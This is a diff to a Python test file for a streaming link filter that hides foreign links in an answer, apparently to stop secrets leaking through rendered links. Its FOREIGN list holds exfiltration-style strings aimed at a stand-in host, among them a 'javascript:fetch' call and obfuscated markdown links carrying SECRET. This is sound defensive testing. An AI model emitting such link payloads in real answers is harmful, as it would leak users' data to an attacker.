@@ -1,6 +1,7 @@
 """Which links of an answer are shown."""
 
 import re
+from itertools import cycle
 
 import pytest
 from hypothesis import given
@@ -41,6 +42,11 @@ FOREIGN = [
     "![a](http://127.0.0.1/SECRET)",
     "[a](https://evil.test/x(y)SECRET)",
     "ht[a](b)tps://evil.test/SECRET",
+    "看https://evil.test/SECRET",
+    "_https://evil.test/SECRET",
+    "看javascript:fetch('https://evil.test/SECRET')",
+    "https:/<img x='a b'>/evil.test/SECRET",
+    "[a](https://evil.test/SECRET 'a title')[b]( https://evil.test/SECRET )",
 ]
 
 ALLOWED = [
@@ -51,6 +57,9 @@ ALLOWED = [
     "It stands in https://elsewhere.test/handbook.pdf.",
     "Ports 8000/8001, and/or 1:2; a // b is a comment; std::vector, C:\\Temp, a[0](x), 3 < 4 > 2, <name>.",
     "Call f(x)[0] or see [1].",
+    "\n[1]: The fare is nine crowns [2].\n\n[3]: nine",
+    "It says [1]:a/b, and [2]: 3.5.",
+    "The metadata: a value of 【4†source】 in [0, 1) or [ ] and 東京は大きい[1]。",
 ]
 
 
@@ -93,3 +102,50 @@ def test_however_a_stream_is_cut_no_foreign_link_is_shown(parts: list[str], size
     shown = "".join(buffer.add(text[at : at + size]) for at in range(0, len(text), size)) + buffer.rest()
     assert "evil.test" not in shown.lower()
     assert "SECRET" not in LINKS.cleaned(shown) or "evil" not in shown
+
+
+PIECES = [
+    *FOREIGN,
+    *ALLOWED,
+    " ",
+    "\n",
+    " and then [",
+    "](",
+    ") ",
+    "<p ",
+    "> ",
+    "[1]: ",
+    "\\[",
+    "東京は",
+    "😀",
+    "x" * 350,
+]
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=6), st.lists(st.integers(1, 30), min_size=1))
+def test_what_is_shown_does_not_depend_on_how_a_stream_is_cut(parts: list[str], sizes: list[int]) -> None:
+    text, whole, cut = "".join(parts), LinkBuffer(LINKS), LinkBuffer(LINKS)
+    shown, at = "", 0
+    for size in cycle(sizes):
+        shown += cut.add(text[at : at + size])
+        at += size
+        if at >= len(text):
+            break
+    assert shown + cut.rest() == whole.add(text) + whole.rest()
+    assert "evil.test" not in shown.lower()
+
+
+@pytest.mark.parametrize("text", [*FOREIGN, *ALLOWED])
+def test_a_stream_shows_what_the_whole_text_would(text: str) -> None:
+    buffer = LinkBuffer(LINKS)
+    whole = f"Before {text} after.\nThe end."
+    assert "".join(map(buffer.add, whole)) + buffer.rest() == LINKS.cleaned(whole)
+
+
+def test_plain_text_is_shown_word_by_word_and_a_bracket_holds_no_more_than_a_few_lines() -> None:
+    buffer = LinkBuffer(LINKS)
+    assert [buffer.add(word) for word in ("The ", "fare", " is", " 9")] == ["The ", "", "fare ", "is "]
+    assert buffer.rest() == "9"
+    told = [buffer.add("one [ word after the other ") for _ in range(100)]
+    assert all(len("".join(told[at : at + 13])) > 300 for at in range(80))
+    assert "".join(told) + buffer.rest() == "one [ word after the other " * 100
